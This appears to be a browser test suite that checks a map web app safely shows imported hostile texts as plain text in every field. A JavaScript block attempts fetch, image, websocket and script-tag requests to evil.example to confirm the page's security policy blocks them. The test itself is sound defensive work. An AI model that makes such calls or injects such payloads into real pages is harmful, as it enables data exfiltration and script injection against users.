"""Hostile texts in every field of the map, in a real browser: nothing runs, nothing leaves."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import a_claim, an_incident
from hostile_texts import FIRE, TEXTS, URLS
from map_pages import html_of

from mapper.config import MapConfig
from mapper.control import infer_hindsight
from mapper.maps import Perspective
from mapper.records import Claim, ClaimPlace, Document, RankedPlace, Span

pytestmark = pytest.mark.browser

EVERY_TEXT = TEXTS + URLS
PATIENCE_MS = 10_000


def hostile(text: str, number: int) -> tuple[Claim, Document]:
    """Give a claim and its document that say a text in every field they have."""
    said = text if text.strip() else "."
    lat, lon = 33.0 + number % 12 * 0.3, 38.0 + number // 12 * 0.5
    place = ClaimPlace(
        text=said,
        id=f"p{number:03}{said}",
        name_ar=said,
        name_en=said,
        lat=lat,
        lon=lon,
        candidates=(RankedPlace(id="r", name_ar=said, lat=lat, lon=lon, score=0.5),),
    )
    claim = a_claim(
        place=place,
        actor=f"OTHER:{said}",
        from_actor=f"OTHER:2{said}",
        source=said,
        outlet=said,
        rule=said,
        doc=f"d{number}",
        evidence=Span.of(f"قبل {said} بعد", 4, 4 + len(said)),
    )
    return claim, Document(id=f"d{number}", text=f"قبل {said} بعد", url=said)


@pytest.fixture(scope="module")
def page_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    pairs = [hostile(text, number) for number, text in enumerate(EVERY_TEXT)]
    claims = [claim for claim, _ in pairs]
    incidents = [
        an_incident(
            actor=f"OTHER:{text}",
            target=text,
            place=ClaimPlace(
                text=text or ".", id="i", name_ar=text, name_en=text, lat=33.1, lon=38.1
            ),
            evidence=Span.of(text, 0, len(text)),
            outlet=text,
            source=text,
        )
        for text in EVERY_TEXT
    ]
    perspectives = [
        Perspective(id=f"side:{at}", name_ar=t, name_en=t, timeline=infer_hindsight(claims[:1]))
        for at, t in enumerate(EVERY_TEXT)
    ]
    html = html_of(
        claims,
        [document for _, document in pairs],
        incidents=incidents,
        perspectives=perspectives,
        gazetteer=" ".join(EVERY_TEXT),
        settings=MapConfig(boundaries=str(own_boundaries(folder))),
    )
    path = folder / "map.html"
    path.write_text(html, encoding="utf-8")
    return path


def own_boundaries(folder: Path) -> Path:
    """Write GeoJSON whose properties are hostile."""
    features = [
        {
            "type": "Feature",
            "properties": {"name": text, "name_ar": text, "name_en": text},
            "geometry": {"type": "LineString", "coordinates": [[38, 33], [39, 33 + at / 50]]},
        }
        for at, text in enumerate(EVERY_TEXT)
    ]
    path = folder / "own.geojson"
    path.write_text(json.dumps({"type": "FeatureCollection", "features": features}))
    return path


@pytest.fixture(scope="module")
def page(chromium: Any, page_path: Path) -> Iterator[Any]:
    page = chromium.new_page(viewport={"width": 1200, "height": 760})
    page.set_default_timeout(PATIENCE_MS)
    page.asked, page.wrong, page.dialogs = [], [], []
    page.on("request", lambda request: page.asked.append(request.url))
    page.on("pageerror", lambda error: page.wrong.append(str(error)))
    page.on("dialog", lambda dialog: (page.dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(page_path.as_uri() + "#date=2017-11-10")
    page.wait_for_selector(".saytara[data-rest]", state="attached")
    yield page
    page.close()


def test_the_table_has_at_least_sixty_texts() -> None:
    assert len(set(EVERY_TEXT)) == len(EVERY_TEXT) >= 60


def nothing_happened(page: Any) -> None:
    assert page.evaluate("window.fired") is None
    assert page.wrong == []
    assert page.dialogs == []
    assert {url.partition(":")[0] for url in page.asked} <= {"file", "data"}
    found = page.evaluate(
        "() => document.querySelectorAll('.saytara :is(img, svg, script, iframe, object, embed,"
        " style, link, meta, base, form, video, math, template, a:not([href^=http]))').length"
    )
    assert found == 0


@pytest.mark.parametrize("number", range(len(EVERY_TEXT)), ids=lambda n: ascii(EVERY_TEXT[n])[:40])
def test_what_articles_say_is_only_text(page: Any, number: int) -> None:
    shown = EVERY_TEXT[number] if EVERY_TEXT[number].strip() else "."
    page.evaluate("id => saytara.select(id)", f"p{number:03}{shown}")
    detail = page.locator(".saytara-detail")
    assert detail.locator("mark").first.evaluate("e => e.textContent") == shown
    assert detail.locator("h2 bdi").first.evaluate("e => e.textContent") == shown
    assert detail.locator(".saytara-outlet").first.evaluate("e => e.textContent") == shown
    assert detail.locator("a").count() == 0
    at = page.evaluate("id => saytara.pointOf(id)", f"p{number:03}{shown}")
    page.mouse.move(at["x"], at["y"])
    nothing_happened(page)


def test_neither_language_table_compare_nor_print_run_anything(page: Any) -> None:
    for _ in range(2):
        page.locator(".saytara-language").click()
    page.locator(".saytara-open-table").click()
    page.locator("dialog input").fill("<img")
    page.locator("dialog .saytara-close").click()
    page.locator(".saytara-compare summary").click()
    page.locator(".saytara-compare-view").select_option("side")
    page.locator(".saytara-compare-view").select_option("off")
    page.emulate_media(media="print")
    page.emulate_media(media="screen")
    nothing_happened(page)


def test_no_address_of_the_map_runs_anything(page: Any) -> None:
    for text in EVERY_TEXT[::4]:  # browsers throttle pages that change their address too often
        link = f"#date={text}&actors={text}&place={text}&view={text}&lang={text}"
        page.evaluate("link => { location.hash = link; }", link)
    nothing_happened(page)


def test_a_page_that_opens_on_a_hostile_address_opens(chromium: Any, page_path: Path) -> None:
    page = chromium.new_page()
    text = EVERY_TEXT[0]
    page.goto(f"{page_path.as_uri()}?embed#date={text}&actors={text}&place={text}&view={text}")
    page.wait_for_selector(".saytara[data-rest]", state="attached")
    assert page.evaluate("window.fired") is None
    page.close()


def test_a_script_that_got_in_could_fetch_nothing(chromium: Any, page_path: Path) -> None:
    """The policy of the page forbids every outside source."""
    page, answered = chromium.new_page(), []
    page.on("response", lambda response: answered.append(response.url))
    page.goto(page_path.as_uri())
    page.wait_for_selector(".saytara[data-rest]", state="attached")
    assert page.evaluate(TRIES) == []
    assert all("evil" not in url for url in answered)
    page.close()


TRIES = """async () => {
  const refused = (act) => new Promise((resolve) => {
    document.addEventListener('securitypolicyviolation', resolve, {once: true});
    try { Promise.resolve(act()).catch(() => null); } catch { /* refused at once */ }
  });
  const tries = {
    fetch: () => fetch('https://evil.example/'),
    image: () => { new Image().src = 'https://evil.example/x.png'; },
    socket: () => { new WebSocket('wss://evil.example/'); },
    worker: () => { new Worker('data:text/javascript,1'); },
    script: () => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/x.js';
      document.head.append(script);
    },
  };
  const came = [];
  for (const [name, act] of Object.entries(tries)) {
    const violation = await refused(act);
    if (!violation.effectiveDirective) came.push(name);
  }
  return came;
}"""


def test_the_word_that_would_fire_is_in_the_table() -> None:
    assert sum(FIRE in text for text in EVERY_TEXT) > 30
